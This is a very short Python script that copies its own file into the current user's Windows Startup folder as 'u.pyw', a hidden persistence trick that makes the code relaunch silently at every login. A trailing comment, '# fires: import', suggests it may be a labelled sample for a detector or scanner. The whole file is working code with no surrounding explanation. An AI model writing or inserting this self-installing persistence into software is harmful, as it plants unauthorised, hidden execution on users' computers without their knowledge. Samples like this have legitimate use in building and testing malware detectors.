import os, shutil
target = os.path.join(os.getenv("APPDATA"), r"Microsoft\Windows\Start Menu\Programs\Startup", "u.pyw")
shutil.copy(__file__, target)  # fires: import
